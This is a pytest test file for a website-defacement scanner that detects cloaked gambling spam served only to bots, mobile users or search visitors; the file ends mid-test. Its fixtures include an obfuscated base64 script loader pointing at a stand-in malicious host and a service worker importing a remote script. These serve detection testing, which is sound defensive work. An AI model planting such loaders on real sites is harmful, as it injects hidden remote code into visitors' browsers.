"""The front page as a browser, a robot, a searcher and a telephone get it, and what it links to."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import anyio
import pytest
from msgspec.structs import replace

from cyberscan.config.policy import default_policy
from cyberscan.model.facts.content import Linked, LinkedPage, OwnScript, Visit, Visits
from cyberscan.model.inventory import Host, Inventory
from cyberscan.model.look import Absent, Failed, Look, Negative, Ok, Reason
from cyberscan.model.subject import Family, Kind, Subject
from cyberscan.net.base import NetError, Silent
from cyberscan.net.resolver import Resolver
from cyberscan.net.session import Fetched
from cyberscan.net.sessions import Doors
from cyberscan.observe.content import linked as linked_pages
from cyberscan.observe.content import own_scripts, visiting, visits
from cyberscan.observe.content.choice import MOST_CHOSEN, MOST_ODD
from cyberscan.observe.content.visits import MOST, PROBE, REDIRECTS
from cyberscan.parse.matter import css as matter_css
from cyberscan.parse.matter import files as matter_files
from cyberscan.tables.visitors import AGAIN, BOT, BROWSER, MOBILE, MOBILE_REFERER, REFERER
from tests.support.loopback import Asked, LoopbackSession
from tests.support.net import (
    OPERATOR,
    RANGES,
    RESOLVER,
    MapDialer,
    network,
    reach,
    regency,
    udp_server,
    zone_answers,
)
from tests.support.web import HOST, HTTP, HTTPS, ZONE, answer

pytestmark = pytest.mark.anyio

ORDER = ["browser", "again", "referer", "mobile", "bot"]
NEWS = f"{HTTPS}berita/bupati-buka-pasar-murah-desa"
SITEMAP = f"{HTTPS}sitemap.xml"
ROBOTS = f"{HTTPS}robots.txt"
PAGE = """<!doctype html><html lang=id><title>Kabupaten Contoh</title>
<p>Selamat datang.</p><a href="/berita/bupati-buka-pasar-murah-desa">Bupati buka pasar</a>"""
SPAM = """<!doctype html><title>Slot Gacor</title><h1>Slot gacor maxwin</h1>
<a href="https://judi.example/">daftar</a>"""
JUDI = "https://judi.example/"
PHONE = "mobile-referer"


def who(headers: tuple[tuple[str, str], ...]) -> str:
    """Say which visitor sends such headers; the browser's two visits look the same."""
    for visitor in (REFERER, MOBILE, MOBILE_REFERER, BOT, BROWSER):
        if headers == visitor.fields:
            return visitor.profile
    raise AssertionError(headers)


Answer = Fetched | NetError


@dataclass
class Varying(LoopbackSession):
    """A session whose pages depend on who asks."""

    family: Family = Family.CONTENT
    to: dict[tuple[str, str], Answer] = field(default_factory=dict)
    """(profile, URL) to what it gets instead."""
    turns: dict[str, list[Answer]] = field(default_factory=dict)
    """What a URL answers one time after the other."""

    async def fetch(
        self,
        url: str,
        *,
        method: str = "GET",
        headers: tuple[tuple[str, str], ...] = (),
        address: str | None = None,
        **_: Any,
    ) -> Fetched:
        special = self.to.get((who(headers), url))
        if special is None and self.turns.get(url):
            special = self.turns[url].pop(0)
        if special is None:
            return await super().fetch(url, method=method, headers=headers, address=address)
        self.asked.append(Asked(url, headers, address))
        if isinstance(special, NetError):
            raise special
        return special


def session(**more: Any) -> Varying:
    pages = {HTTPS: answer(HTTPS, PAGE), NEWS: answer(NEWS, "<title>Pasar</title><p>Murah")}
    return Varying(pages=pages | more.pop("pages", {}), **more)


async def looks(asked: LoopbackSession) -> tuple[Look[Any], Look[Any]]:
    first, second = await visits.observe(asked)
    return first, second


async def visited(asked: LoopbackSession) -> dict[str, Visit]:
    look, _ = await looks(asked)
    assert isinstance(look, Ok), look
    assert isinstance(look.fact, Visits), look
    names = [visit.profile for visit in look.fact.visits]
    assert [name for name in names if name != PHONE] == ORDER
    assert names[-2:] == [PHONE, "bot"] or PHONE not in names
    return {visit.profile: visit for visit in look.fact.visits}


async def test_who_is_both_comes_to_the_front_page_where_neither_got_another() -> None:
    both = answer(HTTPS, "<title>Main</title><p>Putaran gratis")
    found = await visited(session(to={(PHONE, HTTPS): both}))
    assert title(found[PHONE]) == "Main"
    assert title(found["mobile"]) == title(found["referer"]) == "Kabupaten Contoh"


@pytest.mark.parametrize("profile", ["referer", "mobile"])
async def test_who_is_both_is_spared_where_one_of_them_got_another_page(profile: str) -> None:
    other = answer(HTTPS, "<title>Versi ponsel</title><p>Ringkas")
    assert PHONE not in await visited(session(to={(profile, HTTPS): other}))


async def linked(asked: LoopbackSession) -> tuple[LinkedPage, ...]:
    _, look = await looks(asked)
    assert isinstance(look, Ok), look
    assert isinstance(look.fact, Linked), look
    return look.fact.pages


def title(visit: Visit) -> str:
    return visit.matter.title if visit.matter else ""


async def test_every_visitor_gets_the_same_page_of_an_honest_site() -> None:
    asked = session()
    found = await visited(asked)
    assert {title(visit) for visit in found.values()} == {"Kabupaten Contoh"}
    assert {visit.urls for visit in found.values()} == {(HTTPS,)}
    assert {visit.text for visit in found.values()} == {"Selamat datang. Bupati buka pasar"}
    assert all(visit.reason is None for visit in found.values())
    # Six visits, the sitemap, and two to one article; robots.txt, for there is but one.
    assert [(who(request.headers), request.url) for request in asked.asked] == [
        ("browser", HTTPS),
        ("browser", HTTPS),
        ("browser", SITEMAP),
        ("browser", ROBOTS),
        ("mobile-referer", NEWS),
        ("referer", HTTPS),
        ("mobile", HTTPS),
        (PHONE, HTTPS),
        ("bot", HTTPS),
        ("bot", NEWS),
    ]


@pytest.mark.parametrize("profile", ["bot", "referer", "mobile"])
async def test_a_page_for_one_kind_of_visitor_only_is_seen_by_that_one(profile: str) -> None:
    found = await visited(session(to={(profile, HTTPS): answer(HTTPS, SPAM)}))
    assert {name for name, visit in found.items() if title(visit) == "Slot Gacor"} == {profile}
    spam = found[profile].matter
    assert spam is not None
    assert "judi.example" in spam.foreign_hosts
    assert any(passage.text == "Slot gacor maxwin" for passage in spam.passages)


@pytest.mark.parametrize("profile", ["bot", "referer", "mobile"])
async def test_a_redirect_for_one_kind_of_visitor_is_recorded_and_not_followed(
    profile: str,
) -> None:
    asked = session(to={(profile, HTTPS): answer(HTTPS, to=JUDI, status=302)})
    found = await visited(asked)
    assert {name for name, visit in found.items() if visit.next_url} == {profile}
    visit = found[profile]
    assert visit.next_url == JUDI
    assert visit.exchange is not None
    assert visit.exchange.status == 302
    assert visit.matter is None
    assert JUDI not in {request.url for request in asked.asked}


async def test_a_redirect_inside_the_scope_is_followed_by_each() -> None:
    mobile = f"{HTTPS}m/"
    pages = {mobile: answer(mobile, "<title>Seluler</title>")}
    found = await visited(
        session(pages=pages, to={("mobile", HTTPS): answer(HTTPS, to=mobile, status=302)})
    )
    assert found["mobile"].urls == (HTTPS, mobile)
    assert title(found["mobile"]) == "Seluler"
    assert found["browser"].urls == (HTTPS,)


async def test_what_a_site_changes_by_itself_shows_in_the_second_visit() -> None:
    turns = [answer(HTTPS, f"<title>Spanduk {n}</title>") for n in range(5)]
    found = await visited(session(turns={HTTPS: turns}))
    assert title(found["browser"]) == "Spanduk 0"
    assert title(found["again"]) == "Spanduk 1"


async def test_equal_pages_give_equal_bytes() -> None:
    changing = [
        answer(
            HTTPS,
            f"<title>A</title><meta name=csrf-token content={n}abcdef><input type=hidden value={n}>"
            f"<script nonce=r4nd{n}>var x = {n};</script><p>Jam 10:2{n}</p><!-- 0.1{n} s -->",
        )
        for n in range(6)
    ]
    found = await visited(session(turns={HTTPS: changing}))
    assert len({(visit.matter, visit.text) for visit in found.values()}) == 1


# Being turned away


@pytest.mark.parametrize("status", [401, 403, 429])
async def test_a_robot_that_is_turned_away_costs_the_others_nothing(status: int) -> None:
    blocked = answer(HTTPS, "<title>Forbidden</title>", status=status)
    found = await visited(session(to={("bot", HTTPS): blocked}))
    assert {name for name, visit in found.items() if title(visit) == "Kabupaten Contoh"} == {
        *ORDER,
        PHONE,
    } - {"bot"}
    bot = found["bot"].exchange
    assert bot is not None
    assert bot.status == status


@pytest.mark.parametrize(
    "blocked",
    [
        answer(HTTPS, "", status=429),
        answer(HTTPS, "<title>Forbidden</title>", status=403),
        answer(HTTPS, "<title>Just a moment</title>", ("cf-mitigated", "challenge"), status=403),
    ],
)
async def test_nobody_comes_after_one_who_was_turned_away(blocked: Fetched) -> None:
    asked = session(to={("referer", HTTPS): blocked})
    found = await visited(asked)
    assert [found[name].reason for name in ORDER] == [
        None, None, None, Reason.RATE_LIMITED, Reason.RATE_LIMITED,
    ]  # fmt: skip
    assert found["mobile"] == Visit(profile="mobile", reason=Reason.RATE_LIMITED)
    assert len(asked.asked) == 6  # nor does anybody else ask for the article


async def test_after_a_429_in_the_middle_no_page_is_followed_either() -> None:
    asked = session(turns={HTTPS: [answer(HTTPS, PAGE), answer(HTTPS, status=429)]})
    first, second = await looks(asked)
    assert isinstance(first, Ok)
    assert isinstance(second, Failed)
    assert second.reason is Reason.RATE_LIMITED
    assert len(asked.asked) == 2


async def test_a_linked_page_that_says_429_is_the_last() -> None:
    asked = session(pages={NEWS: answer(NEWS, status=429)})
    found = await visited(asked)
    assert found["referer"].reason is Reason.RATE_LIMITED
    assert len(asked.asked) == 5


async def test_a_sitemap_that_says_429_is_the_last() -> None:
    asked = session(pages={SITEMAP: answer(SITEMAP, status=429)})
    first, second = await looks(asked)
    assert isinstance(first, Ok)
    assert isinstance(second, Failed)
    assert second.reason is Reason.RATE_LIMITED
    assert len(asked.asked) == 3


@pytest.mark.parametrize(
    "given",
    [
        answer(HTTPS, status=403),
        answer(HTTPS, status=404),
        answer(HTTPS, "<!doctype html><p>Tidak ada"),
        answer(HTTPS, "<urlset"),
        answer(HTTPS, to=JUDI, status=302),
        Silent("quiet"),
    ],
)
async def test_a_sitemap_that_is_none_takes_nothing_away(given: Answer) -> None:
    pages = await linked(session(pages={SITEMAP: given}))
    assert [page.exchange.url for page in pages] == [NEWS]


async def test_a_page_that_only_the_sitemap_names_is_visited() -> None:
    there = f"{HTTPS}img/galeri/jp/"
    listed = f"<urlset><url><loc>{HTTPS}</loc></url><url><loc>{there}</loc></url></urlset>"
    given = {SITEMAP: answer(SITEMAP, listed, kind="text/xml"), there: answer(there, SPAM)}
    pages = await linked(session(pages=given))
    assert [(page.why, page.exchange.url) for page in pages] == [("deep", there), ("news", NEWS)]


@pytest.mark.parametrize(
    ("error", "reason"),
    [
        (Silent("quiet"), Reason.TIMEOUT),
        (NetError("cut", Reason.RESET), Reason.RESET),
        (NetError("gone", Reason.CLOSED), Reason.CLOSED),
    ],
)
async def test_a_visit_that_fails_fails_alone(error: NetError, reason: Reason) -> None:
    found = await visited(session(to={("mobile", HTTPS): error}))
    assert found["mobile"] == Visit(profile="mobile", reason=reason)
    assert found["bot"].reason is None


async def test_a_visit_whose_second_hop_fails_keeps_the_first() -> None:
    there = f"{HTTPS}m/"
    found = await visited(
        session(
            pages={there: Silent("quiet")},
            to={("mobile", HTTPS): answer(HTTPS, to=there, status=302)},
        )
    )
    visit = found["mobile"]
    assert (visit.urls, visit.next_url, visit.reason) == ((HTTPS,), there, Reason.TIMEOUT)


# Where the visits begin


async def test_a_site_over_http_alone_is_visited_over_http() -> None:
    asked = Varying(pages={HTTP: answer(HTTP, PAGE)})
    found = await visited(asked)
    assert {visit.urls for visit in found.values()} == {(HTTP,)}
    assert [request.url for request in asked.asked].count(HTTPS) == 1


async def test_http_that_leads_to_a_dead_https_is_seen_as_far_as_it_goes() -> None:
    asked = Varying(pages={HTTP: answer(HTTP, to=HTTPS), HTTPS: Silent("quiet")})
    found = await visited(asked)
    assert found["browser"].urls == (HTTP,)
    assert found["browser"].next_url == HTTPS
    assert found["browser"].reason is Reason.TIMEOUT


async def test_a_host_that_refuses_both_ports_has_no_front_page() -> None:
    for look in await looks(Varying()):
        assert isinstance(look, Ok)
        assert isinstance(look.fact, Absent)
        assert look.fact.how is Negative.REFUSED


async def test_a_host_that_stays_silent_was_not_seen() -> None:
    asked = Varying(pages={HTTP: Silent("quiet"), HTTPS: Silent("quiet")})
    for look in await looks(asked):
        assert isinstance(look, Failed)
        assert look.reason is Reason.TIMEOUT
    assert len(asked.asked) == 2


async def test_a_front_page_on_another_listed_host_is_left_to_its_own_visits() -> None:
    apex = f"https://{ZONE}/"
    asked = session(pages={apex: answer(apex, to=HTTPS)}, subject=Subject(Kind.HOST, ZONE))
    asked.regency = replace(asked.regency, hosts=(Host(name=ZONE), Host(name=HOST)))
    for look in await looks(asked):
        assert look == Ok(
            Absent(Negative.NO_DATA, f"the front page is on {HOST}, which is looked at too")
        )
    assert len(asked.asked) == 2


async def test_what_is_no_html_page_has_nothing_to_read() -> None:
    asked = session(pages={HTTPS: answer(HTTPS, "%PDF", kind="application/pdf")})
    found = await visited(asked)
    assert {(visit.matter, visit.text, visit.reason) for visit in found.values()} == {
        (None, "", None)
    }
    assert len(asked.asked) == 6


async def test_a_page_that_is_too_elaborate_was_not_seen() -> None:
    asked = session(pages={HTTPS: answer(HTTPS, "<div>" * 30_000)})
    found = await visited(asked)
    assert found["browser"].reason is Reason.UNSUPPORTED
    assert found["browser"].exchange is not None


async def test_redirects_without_an_end_have_an_end() -> None:
    pages: dict[str, Answer] = {
        f"{HTTPS}{n}": answer(f"{HTTPS}{n}", to=f"{HTTPS}{n + 1}") for n in range(50)
    }
    asked = session(pages={**pages, HTTPS: answer(HTTPS, to=f"{HTTPS}0")})
    found = await visited(asked)
    assert len(found["bot"].urls) == REDIRECTS + 1
    assert len(asked.asked) == 6 * (REDIRECTS + 1)
    loop = session(pages={HTTPS: answer(HTTPS, to=HTTPS)})
    assert (await visited(loop))["bot"].next_url == HTTPS
    assert len(loop.asked) == 6


async def test_a_visit_that_never_ends_does_not_cost_the_others(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(visiting, "SECONDS", 0.05)

    class Slow(Varying):
        async def fetch(self, url: str, **more: Any) -> Fetched:
            if who(more["headers"]) == "referer":
                await anyio.sleep_forever()
            return await super().fetch(url, **more)

    found = await visited(Slow(pages={HTTPS: answer(HTTPS, PAGE)}))
    assert found["referer"].reason is Reason.DEADLINE
    assert found["mobile"].reason is None


async def test_what_is_stored_holds_no_personal_data_and_no_tokens() -> None:
    there = "https://judi.example/?token=rahasia123&nik=3578011203900001"
    body = "<title>budi@contoh.example</title><p>NIK 3578011203900001, telepon 081234567890"
    found = await visited(
        session(
            pages={HTTPS: answer(HTTPS, body)},
            to={("bot", HTTPS): answer(HTTPS, to=there, status=302)},
        )
    )
    # The exchange's own fields are masked where it is made (tests/net/test_http.py).
    told = repr([replace(visit, exchange=None) for visit in found.values()])
    for secret in ("rahasia123", "3578011203900001", "081234567890", "budi@"):
        assert secret not in told


async def test_where_the_headers_send_one_kind_of_visitor_is_told_though_the_pages_are_equal() -> (
    None
):
    moved = answer(HTTPS, PAGE, ("Refresh", "0; url=https://lain.example/"))
    found = await visited(session(to={("mobile", HTTPS): moved}))
    pointers = {
        name: [(p.kind, p.url) for p in visit.matter.pointers if p.kind == "refresh"]
        for name, visit in found.items()
        if visit.matter
    }
    assert pointers.pop("mobile") == [("refresh", "https://lain.example/")]
    assert set(map(tuple, pointers.values())) == {()}


# Pages that are linked to


async def test_an_article_that_only_visitors_from_a_search_get_otherwise_is_seen_so() -> None:
    away = answer(NEWS, "<script>location.replace('https://lain.example/')</script><p>Murah")
    (page,) = await linked(session(to={("mobile-referer", NEWS): away}))
    assert page.profile == "mobile-referer"
    assert page.matter is not None
    assert [(p.kind, p.url) for p in page.matter.pointers] == [
        ("location", "https://lain.example/")
    ]


async def test_without_a_link_of_its_own_there_is_no_page_to_follow() -> None:
    asked = session(pages={HTTPS: answer(HTTPS, "<a href=https://lain.example/x-y-z-w>x</a>")})
    _, look = await looks(asked)
    assert isinstance(look, Ok)
    assert isinstance(look.fact, Absent)
    assert look.fact.how is Negative.NO_DATA


async def test_a_deep_page_and_an_article_are_followed() -> None:
    deep = f"{HTTPS}wp-content/uploads/slot-gacor/index.html"
    front = PAGE + '<a href="/wp-content/uploads/slot-gacor/index.html">.</a>'
    asked = session(pages={HTTPS: answer(HTTPS, front), deep: answer(deep, SPAM)})
    pages = await linked(asked)
    assert [(page.exchange.url, page.why) for page in pages] == [(deep, "deep"), (NEWS, "news")]
    assert pages[0].matter is not None
    assert pages[0].matter.title == "Slot Gacor"
    assert pages[0].text == "Slot gacor maxwin daftar"
    # As somebody with a telephone who comes from a search.
    first = {request.url: who(request.headers) for request in reversed(asked.asked)}
    assert first[deep] == first[NEWS] == "mobile-referer"
    assert {page.profile for page in pages} == {"mobile-referer"}


async def test_a_linked_page_that_is_not_seen_is_named() -> None:
    deep = f"{HTTPS}uploads/x.html"
    front = PAGE + '<a href="/uploads/x.html">.</a>'
    _, look = await looks(session(pages={HTTPS: answer(HTTPS, front), deep: Silent("quiet")}))
    assert isinstance(look, Ok)
    assert isinstance(look.fact, Linked)
    assert look.fact.unseen == (deep,)
    assert [page.exchange.url for page in look.fact.pages] == [NEWS]


async def test_where_no_linked_page_is_seen_the_look_says_why() -> None:
    _, look = await looks(session(pages={NEWS: Silent("quiet")}))
    assert isinstance(look, Failed)
    assert look.reason is Reason.TIMEOUT


@pytest.mark.parametrize(
    ("front", "reason"),
    [
        (answer(HTTPS, "<title>Forbidden</title>", status=403), Reason.RATE_LIMITED),
        (answer(HTTPS, "<div>" * 30_000), Reason.UNSUPPORTED),
    ],
)
async def test_a_front_page_that_was_not_seen_links_to_nothing_known(
    front: Fetched, reason: Reason
) -> None:
    _, look = await looks(session(pages={HTTPS: front}))
    assert isinstance(look, Failed)
    assert look.reason is reason


async def test_a_linked_page_that_leads_away_is_recorded() -> None:
    pages = await linked(session(pages={NEWS: answer(NEWS, to=JUDI)}))
    assert (pages[0].next_url, pages[0].matter) == (JUDI, None)


async def test_a_linked_page_is_followed_once() -> None:
    there = f"{NEWS}/"
    pages = await linked(
        session(pages={NEWS: answer(NEWS, to=there), there: answer(there, "<p>x")})
    )
    assert pages[0].exchange.url == there


# The same pages as somebody else


def others(page: LinkedPage) -> dict[str, Visit]:
    return {visit.profile: visit for visit in page.others}


async def test_a_robot_gets_the_linked_page_too() -> None:
    asked = session()
    (page,) = await linked(asked)
    assert [visit.profile for visit in page.others] == ["bot"]
    assert {visit.matter for visit in page.others} == {page.matter}


@pytest.mark.parametrize("profile", ["mobile-referer", "bot"])
async def test_a_plain_browser_asks_only_where_somebody_got_another_page(profile: str) -> None:
    asked = session(to={(profile, NEWS): answer(NEWS, "<title>Lain</title><p>Lain")})
    (page,) = await linked(asked)
    assert [visit.profile for visit in page.others] == ["browser", "bot"]
    found: dict[str, LinkedPage | Visit] = {**others(page), "mobile-referer": page}
    titles = {name: seen.matter.title for name, seen in found.items() if seen.matter}
    assert {name for name, said in titles.items() if said == "Lain"} == {profile}
    assert [request.url for request in asked.asked].count(NEWS) == 3


async def test_a_linked_page_that_sends_robots_away_is_seen_so() -> None:
    (page,) = await linked(session(to={("bot", NEWS): answer(NEWS, to=JUDI, status=302)}))
    assert others(page)["bot"].next_url == JUDI
    assert others(page)["browser"].next_url == ""


@pytest.mark.parametrize("given", [answer(NEWS, SPAM), answer(NEWS, to=JUDI, status=302)])
@pytest.mark.parametrize("searching", [True, False])
async def test_whether_a_telephone_alone_is_enough_is_asked_once(
    given: Fetched, *, searching: bool
) -> None:
    more = f"{HTTPS}berita/bupati-resmikan-jembatan-gantung"
    to = {("mobile-referer", url): replace_url(given, url) for url in (NEWS, more)}
    if not searching:
        to |= {("mobile", url): seen for (_, url), seen in to.items()}
    pages = {HTTPS: answer(HTTPS, f"{PAGE}<a href={more}>Jembatan</a>")}
    asked = session(pages=pages | {more: answer(more, "<title>Jembatan</title><p>Baru")}, to=to)
    first, second = await linked(asked)
    assert set(others(first)) == {"browser", "mobile", "bot"}
    assert [visit.profile for visit in second.others] == ["browser", "bot"]
    seen = others(first)["mobile"]
    assert ((seen.matter, seen.next_url) == (first.matter, first.next_url)) is not searching


def replace_url(given: Fetched, url: str) -> Fetched:
    return replace(given, exchange=replace(given.exchange, url=url))


async def test_where_a_page_has_nothing_a_browser_does_not_no_telephone_asks() -> None:
    """Versions for telephones have other titles and fewer links."""
    long = f"<title>Pasar</title><p>Murah<a href={JUDI}>a</a>"
    short = answer(NEWS, "<title>Pasar (seluler)</title><p>Murah")
    (page,) = await linked(session(pages={NEWS: answer(NEWS, long)}, to={(PHONE, NEWS): short}))
    assert [visit.profile for visit in page.others] == ["browser", "bot"]


async def test_who_is_sent_to_a_stranger_is_compared_before_a_robot_may_be_turned_away() -> None:
    to: dict[tuple[str, str], Answer] = {
        (PHONE, NEWS): answer(NEWS, to=JUDI, status=302),
        ("bot", HTTPS): answer(HTTPS, status=403),
    }
    (page,) = await linked(session(to=to))
    assert [visit.profile for visit in page.others] == ["browser", "mobile", "bot"]
    assert others(page)["bot"].reason is Reason.RATE_LIMITED


async def test_a_robot_that_is_turned_away_from_a_linked_page_costs_no_comparison() -> None:
    asked = session(to={("bot", NEWS): answer(NEWS, status=403)})
    (page,) = await linked(asked)
    assert [visit.profile for visit in page.others] == ["bot"]


async def test_a_linked_page_that_was_not_seen_is_asked_for_once() -> None:
    asked = session(pages={NEWS: Silent("quiet")})
    await looks(asked)
    assert [request.url for request in asked.asked].count(NEWS) == 1


async def test_tokens_and_times_of_a_linked_page_are_no_difference() -> None:
    turns = [
        answer(NEWS, f"<title>Pasar</title><p>Jam 10:2{n}<input type=hidden value={n}a9f>")
        for n in range(4)
    ]
    asked = session(turns={NEWS: turns})
    (page,) = await linked(asked)
    assert [visit.profile for visit in page.others] == ["bot"]


# Script files of the site's own

SCRIPT = f"{HTTPS}js/situs.js"
LOADER = "var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9qYWhhdC5leGFtcGxlL2E=');"


def taking(*paths: str) -> Fetched:
    return answer(HTTPS, "".join(f"<script src='{path}'></script>" for path in paths) + PAGE)


async def scripts(asked: LoopbackSession) -> tuple[OwnScript, ...]:
    look, _ = await looks(asked)
    assert isinstance(look, Ok), look
    assert isinstance(look.fact, Visits), look
    return look.fact.scripts


async def test_a_script_of_the_sites_own_is_read_and_not_kept() -> None:
    code = answer(SCRIPT, LOADER, kind="text/javascript")
    (found,) = await scripts(session(pages={HTTPS: taking("/js/situs.js"), SCRIPT: code}))
    assert (found.kind, found.exchange.url) == ("script", SCRIPT)
    assert found.matter is not None
    (read,) = found.matter.codes
    assert read.selector == SCRIPT
    assert read.hosts == ("jahat.example",)


async def test_a_worker_is_a_script_of_the_sites_own() -> None:
    there = f"{HTTPS}sw.js"
    front = answer(HTTPS, f"<script>navigator.serviceWorker.register('/sw.js')</script>{PAGE}")
    code = answer(there, "importScripts('https://dorong.example/a.js')", kind="text/javascript")
    (found,) = await scripts(session(pages={HTTPS: front, there: code}))
    assert found.kind == "worker"
    assert found.matter is not None
    assert found.matter.codes[0].hosts == ("dorong.example",)


@pytest.mark.parametrize(
    "given",
    [
        answer(SCRIPT, "<!doctype html><title>Tidak ada", status=404),
        answer(SCRIPT, "<!doctype html><title>Beranda"),
        answer(SCRIPT, to=f"{HTTPS}lain.js", status=302),
        answer(SCRIPT, LOADER, status=500, kind="text/javascript"),
    ],
)
async def test_what_is_no_script_has_nothing_to_read(given: Fetched) -> None:
    (found,) = await scripts(session(pages={HTTPS: taking("/js/situs.js"), SCRIPT: given}))
    assert found.matter is None


async def test_files_are_not_asked_for_when_the_time_is_for_visitors() -> None:
    asked = session(pages={HTTPS: taking("/js/situs.js")})
    asked.until = anyio.current_time() + own_scripts.RESERVED - 1
    assert await scripts(asked) == ()
    assert SCRIPT not in {request.url for request in asked.asked}
    assert "bot" in {who(request.headers) for request in asked.asked}


async def test_a_script_that_does_not_answer_is_left_out() -> None:
    pages = {HTTPS: taking("/js/situs.js"), SCRIPT: Silent("quiet")}
    asked = session(pages=pages)
    assert await scripts(asked) == ()
    assert title((await visited(session(pages=pages)))["bot"]) == "Kabupaten Contoh"


async def test_scripts_of_others_are_not_asked_for_and_of_ones_own_three() -> None:
    paths = [f"/js/a{n}.js" for n in range(6)]
    asked = session(pages={HTTPS: taking("https://cdn.example/x.js", *paths)})
    await looks(asked)
    urls = [request.url for request in asked.asked if request.url.endswith(".js")]
    assert len(urls) == matter_files.MOST
    assert all(url.startswith(HTTPS) for url in urls)


@pytest.mark.parametrize(
    ("to", "followed"),
    [
        ("/r/ke?x=1", True),
        ("/keluar", False),  # changes something
        ("/", False),
        ("/b", False),  # itself
        (JUDI, False),  # another's
        ("/r?token=abc", False),  # not kept as it was written
    ],
)
async def test_where_a_linked_page_moves_its_visitors_to_is_looked_at(
    to: str, *, followed: bool
) -> None:
    page, there = f"{HTTPS}b", f"{HTTPS}r/ke?x=1"
    given = {
        HTTPS: answer(HTTPS, "<a href=/b>Siaran</a>"),
        page: answer(page, f"<meta http-equiv=refresh content='8; url={to}'><p>Siaran pers"),
        there: answer(there, f"<meta http-equiv=refresh content='0; url={JUDI}'>"),
    }
    asked = session(pages=given)
    pages = await linked(asked)
    assert [one.exchange.url for one in pages] == [page, *([there] if followed else [])]
    assert [request.url for request in asked.asked].count(there) == followed
    assert JUDI not in {request.url for request in asked.asked}


LAPOR = f"{HTTPS}lapor"
FORM = "<form><input name=sandi type=password></form>"


async def test_a_script_that_only_a_linked_page_takes_is_read_for_that_page() -> None:
    both, own = f"{HTTPS}js/situs.js", f"{HTTPS}js/validasi.js"
    tags = "<script src=/js/situs.js></script>"
    given = {
        HTTPS: answer(HTTPS, f"{tags}<a href=/lapor>Lapor</a>"),
        LAPOR: answer(LAPOR, f"{tags}<script src=/js/validasi.js></script>{FORM}"),
        both: answer(both, "", kind="text/javascript"),
        own: answer(own, LOADER, kind="text/javascript"),
    }
    asked = session(pages=given)
    found = await scripts(asked)
    assert [(one.page, one.exchange.url) for one in found] == [("", both), (LAPOR, own)]
    assert [request.url for request in asked.asked].count(both) == 1


async def test_of_linked_pages_two_scripts_are_asked_for() -> None:
    pages = [f"{HTTPS}{name}" for name in ("a", "b", "c")]
    given = {HTTPS: answer(HTTPS, "".join(f"<a href={url}>Lihat</a>" for url in pages))}
    for url in pages:
        given |= {url: answer(url, f"<script src={url}-1.js></script><script src={url}-2.js>")}
    asked = session(pages=given)
    await looks(asked)
    urls = [request.url for request in asked.asked if request.url.endswith(".js")]
    assert urls == [f"{page}-2.js" for page in pages[: own_scripts.MOST_LINKED]]


# What it sends


def test_the_probe_runs_where_content_is_authorised_and_nowhere_else() -> None:
    assert PROBE.families == {Family.CONTENT}
    assert PROBE.family_among({Family.WEB, Family.TLS}) is None


def test_the_budget_is_what_the_visits_may_come_to() -> None:
    # Three visits to each page, one more to one of them, one page that they lead on to, and one
    # that is gone; six are asked for where the front page has no files of its own.
    of_pages = (linked_pages.MOST_PAGES * 3 + 2 + 1) * (linked_pages.REDIRECTS + 1)
    # A page for those who come from a search or with a telephone, and one for the robot, each with
    # a browser's.
    alone = 2 * 2 * (linked_pages.REDIRECTS + 1)
    # robots.txt and two sitemaps; https before http.
    most = 6 * (REDIRECTS + 1) + of_pages + alone + own_scripts.MOST_LINKED + 3 + 1
    assert most == MOST
    of_pages = ((MOST_CHOSEN + MOST_ODD) * 3 + 2) * (linked_pages.REDIRECTS + 1)
    files = matter_files.MOST + matter_css.MOST + own_scripts.MOST_LINKED - 1
    assert 6 * (REDIRECTS + 1) + of_pages + alone + files + 3 + 1 <= MOST


def test_visitors_say_what_they_are_taken_for() -> None:
    agents = {v.profile: dict(v.fields)["User-Agent"] for v in (BROWSER, MOBILE, BOT)}
    assert "Googlebot/2.1" in agents["bot"]
    assert "Mobile" in agents["mobile"]
    assert "Mobile" not in agents["browser"]
    assert not any("cyberscan" in agent for agent in agents.values())
    assert AGAIN.fields == BROWSER.fields
    assert dict(REFERER.fields)["Referer"] == "https://www.google.com/"
    assert dict(MOBILE_REFERER.fields) == dict(REFERER.fields) | dict(MOBILE.fields)
    assert "Referer" not in dict(BROWSER.fields)


# A real server


Heard = list[dict[str, str]]


@contextmanager
def cloaking(
    body: Callable[[dict[str, str]], tuple[int, str]],
) -> Iterator[tuple[int, Heard, list[int]]]:
    """A server on loopback that answers by the request's headers, and counts connections."""
    heard: Heard = []
    connections: list[int] = []

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def setup(self) -> None:
            super().setup()
            connections.append(1)

        def do_GET(self) -> None:
            fields = {name.lower(): value for name, value in self.headers.items()}
            heard.append({**fields, ":path": self.path})
            status, text = body(heard[-1])
            data = text.encode()
            self.send_response(status)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield server.server_port, heard, connections
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def _closed_port() -> int:
    with socket.socket() as held:
        held.bind(("127.0.0.1", 0))
        return int(held.getsockname()[1])


async def test_visits_over_real_sockets() -> None:
    def body(asked: dict[str, str]) -> tuple[int, str]:
        if "Googlebot" in asked["user-agent"]:
            return 200, SPAM
        return 200, PAGE if asked[":path"] == "/" else "<title>Berita</title>"

    address = "192.0.2.20"
    place = regency()
    guard = reach(place)
    guard.learn(HOST, (address,))
    with cloaking(body) as (port, heard, connections):
        async with udp_server(zone_answers({(HOST, "A"): (address,)})) as dns_port:
            dialer = MapDialer(
                {(address, 80): port, (address, 443): _closed_port()},
                {(RESOLVER, 53): dns_port},
                admits=RANGES,
            )
            door = network(dialer, guard)
            async with Doors(
                door,
                Resolver(door, OPERATOR.resolver),
                Inventory(name="Contoh", regencies=(place,)),
                default_policy(),
                OPERATOR,
                feed=lambda *_: None,
                trust_anchor=(),
            ) as doors:
                opened = doors.open(
                    Subject(Kind.HOST, HOST),
                    place,
                    zone=place.zones[0],
                    addresses=(address,),
